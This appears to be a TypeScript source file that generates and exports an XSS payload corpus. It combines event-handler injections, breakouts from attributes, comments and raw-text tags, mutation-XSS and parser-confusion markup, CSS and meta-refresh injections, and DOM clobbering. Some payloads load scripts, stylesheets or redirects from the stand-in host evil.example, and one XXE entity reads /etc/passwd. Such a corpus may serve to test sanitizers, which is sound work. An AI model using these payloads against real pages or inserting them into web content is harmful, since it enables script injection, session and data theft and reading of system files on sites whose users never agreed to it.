/** Ways to make markup run a script or load something, for places where text stands between tags or in an attribute. */

const tags = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'iframe src=//evil.example',
  ],
  ...[
    'select autofocus',
    'textarea autofocus',
    'marquee',
    'object data=x',
    'embed src=x',
    'math',
    'a href=x',
    'x tabindex=1',
  ],
];
const events = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbegin',
];
const blanks = [' ', '/', '\t', '\n', '\f'];

/** `<img src=x/onerror=alert(1)>`: every tag with every event, the blanks in turn. */
const handlers = tags.flatMap((tag, row) =>
  events.map((event, column) => `<${tag}${blanks[(row + column) % blanks.length]}${event}=alert(1)>`),
);

const endings = [
  ...[
    '">',
    "'>",
    '`>',
    '"/>',
    '\\">',
    '</title>',
    '</textarea>',
    '</script>',
    '</style>',
    '</noscript>',
    '</template>',
    '</svg>',
  ],
  ...[
    '-->',
    '--!>',
    ']]>',
    '?>',
    '</option></select>',
    '</a>',
    '</button>',
    '</code></pre>',
    '\n\n',
    '\u2028',
    '|',
    '}}',
  ],
];
const cores = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/a.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<style>@import"//evil.example/a.css"</style>',
];

/** Out of whatever one stands in, then a script. */
const breakouts = endings.flatMap((ending) => cores.map((core) => `${ending}${core}`));

const quotes = ['"', "'", '`', '', '\\"', '&quot;', '&#34;', '&#x22;', '\u201C', '\uFF02'];
const additions = [
  'onmouseover=alert(1) x=',
  'autofocus onfocus=alert(1) x=',
  'style=position:fixed;inset:0 onclick=alert(1) x=',
  'href=javascript:alert(1) x=',
  'src=//evil.example/a.png x=',
  'srcset=//evil.example/a.png x=',
  'formaction=javascript:alert(1) x=',
  'http-equiv=refresh content=0;url=//evil.example x=',
];

/** Out of the value of an attribute, into the next one. */
const attributes = quotes.flatMap((quote) => additions.map((addition) => `a${quote} ${addition}${quote}`));

/** Markup that a browser takes apart otherwise the second time (mXSS), or that hides from a simple look. */
const odd = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></foreignObject></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><script>alert&lpar;1&rpar;</script></svg>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1) />',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '<script/x>alert(1)</script/x>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<script>/*\n*/alert(1)</script>',
  '<!--><script>alert(1)</script>',
  '<!---!><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
  '<xss style="animation-name:rotation" onanimationstart=alert(1)>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>',
  '<style>*{background:url(//evil.example/a.png)}</style>',
  '<style>@font-face{font-family:a;src:url(//evil.example/a.woff)}*{font-family:a}</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width:expression(alert(1))">',
  '<div style="-moz-binding:url(//evil.example/a.xml#x)">',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel=prefetch href=//evil.example/a>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<link rel=import href=//evil.example/a>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<iframe src="javascript:alert(1)">',
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  '<frameset onload=alert(1)>',
  '<portal src=//evil.example>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<slot name=a onslotchange=alert(1)>',
  '<form id=a></form><button form=a formaction=javascript:alert(1)>x',
  '<form action=//evil.example><input name=q><input type=submit>',
  '<input name=attributes><input name=innerHTML>',
  '<a id=location href=javascript:alert(1)>x</a>',
  '<img name=currentScript><img name=body>',
  '<audio controls><source src=x onerror=alert(1)></audio>',
  '<picture><source srcset=//evil.example/a.png><img src=x></picture>',
  '<video poster=//evil.example/a.png>',
  '<table background=//evil.example/a.png><td background=//evil.example/b.png>',
  '<input type=image src=//evil.example/a.png>',
  '<isindex type=image src=x onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button autofocus>',
  '<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>y',
  '<p contenteditable oninput=alert(1) autofocus>',
];

/** Everything that stands in pages as markup. */
export const markup: readonly string[] = [...handlers, ...breakouts, ...attributes, ...odd];
